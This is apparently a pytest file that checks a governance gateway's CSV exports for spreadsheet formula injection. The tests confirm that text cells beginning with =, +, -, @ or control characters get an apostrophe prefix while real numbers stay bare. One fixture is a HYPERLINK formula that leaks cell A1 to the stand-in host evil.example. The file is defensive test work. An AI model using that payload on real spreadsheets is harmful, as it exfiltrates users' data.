"""Every CSV download (inventory, compliance reports, the audit export) neutralises
text cells a spreadsheet would run as a formula, through the one writer
(``gateway.governance.csvfile``); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from adapters.protocol import PromotionContext
from gateway.domain import ModelCard, Stage
from gateway.governance import audit
from gateway.governance.csvfile import csv_line, safe_cell
from gateway.runtime import Gateway
from tests.governance.conftest import POLICIES, complete, open_gateway, register, write_policies
from tests.governance.test_graphql import graphql_client

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-0.5", "'-0.5"),  # text that looks like a number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        (-0.5, -0.5),  # a number written as a number stays one
        (-3, -3),
        (None, ""),
        (True, True),
    ],
)
def test_safe_cell(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_csv_line_writes_numbers_bare_and_text_quoted() -> None:
    assert csv_line([-0.5, "-0.5", "=x", None]) == "-0.5,'-0.5,'=x,\n"


async def test_a_recorded_endpoint_named_as_a_formula_is_neutralised_in_the_inventory(gov: Gateway) -> None:
    v = await register(gov, "fraud", **complete())
    await gov.adapters["platform"].set_stage(v, Stage.PRODUCTION, PromotionContext("ops"))
    await gov.sync.refresh_model("platform", "fraud")
    async with graphql_client(gov, "alice") as client:
        recorded = await client.post("/deployments", json={"uri": v.uri, "endpoint": FORMULA})
        assert recorded.status_code == 200, recorded.text
        client.headers["x-test-principal"] = "audrey"
        response = await client.get("/reports/inventory?format=csv")
    assert response.status_code == 200, response.text
    (row,) = rows(response.text)
    assert row["servesAt"] == "'" + FORMULA
    assert row["model"] == "mg://platform/fraud"


async def test_audit_csv_neutralises_text_and_keeps_numbers(gov: Gateway) -> None:
    async with gov.database.write() as conn:
        await audit.append(conn, "+action", "@mallory", "-subject", {"k": "v"})
    async with graphql_client(gov, "audrey") as client:
        response = await client.get("/audit/export.csv")
    assert response.status_code == 200, response.text
    last = rows(response.text)[-1]
    assert (last["action"], last["principal"], last["subject"]) == ("'+action", "'@mallory", "'-subject")
    assert last["seq"].isdigit()


async def test_report_csv_neutralises_a_policy_message(database_url: str, tmp_path: Path) -> None:
    policies = POLICIES.replace(
        "description: Production versions document intended use and limitations",
        "description: '-1+1 cards must be complete'",
    )
    gw = await open_gateway(database_url, tmp_path, write_policies(tmp_path, policies))
    try:
        v = await register(gw, "fraud", **complete(model_card=ModelCard()))
        await gw.adapters["platform"].set_stage(v, Stage.PRODUCTION, PromotionContext("ops"))
        await gw.sync.refresh_model("platform", "fraud")
        async with graphql_client(gw, "audrey") as client:
            violations = rows((await client.get("/reports/compliance.csv")).text)
            summary = (await client.get("/reports/compliance.csv?view=summary")).text.splitlines()
    finally:
        await gw.aclose()
    messages = {r["policy"]: r["message"] for r in violations}
    assert messages["card-complete"] == "'-1+1 cards must be complete"
    assert summary[1] == "total,all,1,0"
